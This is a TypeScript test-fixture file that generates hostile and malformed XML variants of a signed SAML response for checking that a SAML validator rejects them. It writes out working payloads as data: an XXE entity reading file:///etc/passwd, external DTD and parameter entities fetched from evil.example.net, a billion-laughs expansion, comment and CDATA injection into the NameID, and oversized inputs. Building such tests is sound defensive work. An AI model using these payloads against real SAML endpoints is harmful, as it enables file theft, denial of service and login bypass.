/** Text that is no XML, or more XML than SAML needs: what makes parsers explode, call home, or disagree. */
import { goodSignature } from './broken-signatures.ts';
import type { SamlCase, Signed } from './case.ts';
import type { SamlKeys } from './keys.ts';
import { writeResponse } from './write-response.ts';

type Row = readonly [name: string, reason: string, change: (good: string) => string];

const inName =
  (inside: string) =>
  (good: string): string =>
    good.replace('>alice@example.com</saml:NameID>', `>${inside}</saml:NameID>`);
const inFront =
  (text: string) =>
  (good: string): string =>
    text + good;
const behind =
  (text: string) =>
  (good: string): string =>
    good + text;

const ROWS: readonly Row[] = [
  ['a document type', 'doctype', inFront('<!DOCTYPE samlp:Response>')],
  ['a document type in small letters', 'doctype', inFront('<!doctype x>')],
  ['a document type with a space', 'doctype', inFront('<! DOCTYPE x>')],
  ['an external document type', 'doctype', inFront('<!DOCTYPE x SYSTEM "https://evil.example.net/x.dtd">')],
  [
    'an external entity',
    'doctype',
    (it) => inFront('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')(inName('&e;')(it)),
  ],
  [
    'a billion laughs',
    'doctype',
    (it) =>
      inFront('<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>')(
        inName('&b;')(it),
      ),
  ],
  [
    'a parameter entity',
    'doctype',
    inFront('<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example.net/p">%p;]>'),
  ],
  ['an entity without a document type', 'entity', inFront('<!ENTITY e "x">')],
  ['an entity that nothing declares', 'entity', inName('alice&nbsp;@example.com')],
  ['an entity of every object', 'entity', inName('&constructor;')],
  [
    'a style sheet',
    'processing-instruction',
    inFront('<?xml-stylesheet href="https://evil.example.net/x.xsl"?>'),
  ],
  [
    'an instruction in the name',
    'processing-instruction',
    inName('alice@example.com<?x y?>.evil.example.net'),
  ],
  ['an instruction at the end', 'processing-instruction', behind('<?x y?>')],
  ['a declaration that is not first', 'processing-instruction', inFront(' <!-- --><?xml version="1.0"?>')],
  ['XML 1.1', 'xml-version', inFront('<?xml version="1.1"?>')],
  ['an encoding that is another', 'encoding', inFront('<?xml version="1.0" encoding="UTF-16"?>')],
  ['an encoding of seven bits', 'encoding', inFront('<?xml version="1.0" encoding="UTF-7"?>')],
  ['an encoding of one byte', 'encoding', inFront('<?xml version="1.0" encoding="ISO-8859-1"?>')],
  ['a declaration without a version', 'not-well-formed', inFront('<?xml encoding="UTF-8"?>')],
  ['a comment in the name', 'comment-in-value', inName('alice@example.com<!-- -->.evil.example.net')],
  ['an empty comment in the name', 'comment-in-value', inName('alice@example.com<!---->')],
  ['a comment in front of the name', 'comment-in-value', inName('<!-- x -->alice@example.com')],
  [
    'a comment in the audience',
    'comment-in-value',
    (it) => it.replace('</saml:Audience>', '<!-- x --></saml:Audience>'),
  ],
  [
    'a comment in the issuer',
    'comment-in-value',
    (it) => it.replace('</saml:Issuer>', '<!-- x --></saml:Issuer>'),
  ],
  ['a comment in an attribute value', 'comment-in-value', (it) => it.replace('>admins<', '>admin<!-- -->s<')],
  [
    'a comment in the way of signing in',
    'comment-in-value',
    (it) => it.replace('</saml:AuthnContextClassRef>', '<!-- x --></saml:AuthnContextClassRef>'),
  ],
  ['a CDATA section in the name', 'cdata-in-value', inName('alice@example.com<![CDATA[.evil.example.net]]>')],
  ['a name that is a CDATA section', 'cdata-in-value', inName('<![CDATA[alice@example.com]]>')],
  ['an element in the name', 'element-in-value', inName('alice<x:b xmlns:x="urn:x">@example.com</x:b>')],
  [
    'an element in the audience',
    'element-in-value',
    (it) => it.replace('</saml:Audience>', '<saml:Audience/></saml:Audience>'),
  ],
  ['two roots', 'several-roots', behind('<x/>')],
  ['two whole messages', 'several-roots', (it) => it + it],
  ['text behind', 'not-well-formed', behind('x')],
  ['a character behind that is none', 'invalid-character', behind('\u0000')],
  ['a CDATA section behind', 'not-well-formed', behind('<![CDATA[x]]>')],
  ['a character that XML does not allow', 'invalid-character', inName('alice\u0001')],
  ['a reference to a character that XML does not allow', 'invalid-character', inName('alice&#0;')],
  ['a reference to half a character', 'invalid-character', inName('alice&#xD800;')],
  ['a reference beyond all characters', 'invalid-character', inName('alice&#x110000;')],
  ['half a character', 'invalid-character', inName('alice\ud800')],
  ['a character that is none', 'invalid-character', inName('alice\ufffe')],
  ['an ampersand alone', 'not-well-formed', inName('alice & bob')],
  [
    'an attribute twice',
    'duplicate-attribute',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" Version="2.0"'),
  ],
  [
    'an attribute twice by two prefixes',
    'duplicate-attribute',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2"'),
  ],
  [
    'a prefix that nothing declares',
    'namespace',
    (it) => it.replace('<saml:Subject>', '<nobody:Subject>').replace('</saml:Subject>', '</nobody:Subject>'),
  ],
  [
    'a prefix of an attribute that nothing declares',
    'namespace',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" nobody:x="1"'),
  ],
  [
    'a prefix that is taken away',
    'namespace',
    (it) => it.replace('<saml:Subject>', '<saml:Subject xmlns:saml="">'),
  ],
  [
    'another namespace of xml',
    'namespace',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" xmlns:xml="urn:x"'),
  ],
  [
    'the prefix xmlns',
    'namespace',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" xmlns:xmlns="urn:x"'),
  ],
  [
    'a namespace that is no address',
    'namespace',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" xmlns:x="relative"'),
  ],
  [
    'a name with two colons',
    'namespace',
    (it) => it.replace('<saml:Subject>', '<saml:x:Subject>').replace('</saml:Subject>', '</saml:x:Subject>'),
  ],
  ['an end tag of another', 'not-well-formed', (it) => it.replace('</saml:Subject>', '</saml:Other>')],
  [
    'an end tag in other letters',
    'not-well-formed',
    (it) => it.replace('</saml:Subject>', '</saml:subject>'),
  ],
  [
    'an end tag with rubbish',
    'not-well-formed',
    (it) => it.replace('</saml:Subject>', '</saml:Subject x="1">'),
  ],
  ['an attribute without quotes', 'not-well-formed', (it) => it.replace(' Version="2.0"', ' Version=2.0')],
  [
    'an attribute without a value',
    'not-well-formed',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" x'),
  ],
  [
    'attributes without a space',
    'not-well-formed',
    (it) => it.replace(' Version="2.0"', ' Version="2.0"x="1"'),
  ],
  [
    'a smaller-than in an attribute',
    'not-well-formed',
    (it) => it.replace(' Version="2.0"', ' Version="2.0" x="<"'),
  ],
  ['the end of a CDATA section', 'not-well-formed', inName('alice]]>')],
  ['two dashes in a comment', 'not-well-formed', behind('<!-- a -- b -->')],
  ['a comment that does not end', 'not-well-formed', behind('<!-- a')],
  ['half of it', 'not-well-formed', (it) => it.slice(0, it.length / 2)],
  ['an end that is missing', 'not-well-formed', (it) => it.replace('</samlp:Response>', '')],
  [
    'elements too deep',
    'too-deep',
    (it) => it.replace('>users<', `>${'<x>'.repeat(200)}${'</x>'.repeat(200)}<`),
  ],
  ['elements without an end, too deep', 'too-deep', inFront('<x>'.repeat(100_000))],
  ['too many elements', 'too-large', (it) => it.replace('>users<', `>${'<x/>'.repeat(50_000)}<`)],
  [
    'too many attributes',
    'too-large',
    (it) =>
      it.replace(
        ' Version="2.0"',
        ` Version="2.0"${Array.from({ length: 500 }, (_x, at) => ` a${at}="1"`).join('')}`,
      ),
  ],
  ['too many comments', 'too-large', behind('<!---->'.repeat(50_000))],
  ['too much text', 'too-large', behind(`${' '.repeat(2_100_000)}<!-- -->`)],
];

export const HOSTILE_XML: readonly SamlCase[] = ROWS.map(
  ([name, reason, change]): SamlCase => ({
    name,
    check: 'S13',
    reason,
    make: (keys: SamlKeys, signed: Signed) => {
      const good = goodSignature(keys, signed);
      const bad = change(good);
      if (bad === good) throw new Error('nothing was changed');
      return bad;
    },
  }),
);

/** XML that is fine, and no SAML 2.0 response. */
export const OTHER_XML: readonly SamlCase[] = [
  {
    name: 'an assertion alone',
    check: 'S15',
    reason: 'message-wrong',
    only: 'assertion',
    make: () => '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0"/>',
  },
  {
    name: 'a response of SAML 1.1',
    check: 'S15',
    reason: 'version-wrong',
    only: 'response',
    make: () =>
      '<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1" MinorVersion="1" ResponseID="_r"/>',
  },
  {
    name: 'a response in no namespace',
    check: 'S15',
    reason: 'message-wrong',
    only: 'response',
    make: () => '<Response ID="_r" Version="2.0"/>',
  },
  {
    name: 'a response in a namespace of its own',
    check: 'S15',
    reason: 'message-wrong',
    only: 'response',
    make: (keys) => goodSignature(keys, 'response').replace('SAML:2.0:protocol', 'SAML:2.0:protocoI'),
  },
  {
    name: 'a page',
    check: 'S13',
    reason: 'doctype',
    only: 'response',
    make: () => '<!DOCTYPE html><html><body>SAMLResponse</body></html>',
  },
  {
    name: 'no ID of the response',
    check: 'S11',
    reason: 'id-missing',
    only: 'assertion',
    make: (keys) => goodSignature(keys, 'assertion').replace(' ID="_response1"', ''),
  },
  {
    name: 'an ID that starts with a digit',
    check: 'S11',
    reason: 'id-malformed',
    only: 'assertion',
    make: (keys) => goodSignature(keys, 'assertion').replace(' ID="_response1"', ' ID="1response"'),
  },
  {
    name: 'an assertion in another namespace',
    check: 'S17',
    reason: 'assertion-missing',
    only: 'response',
    make: () =>
      writeResponse().replace(/<saml:Assertion .*<\/saml:Assertion>/s, '<Assertion xmlns="urn:x"/>'),
  },
];
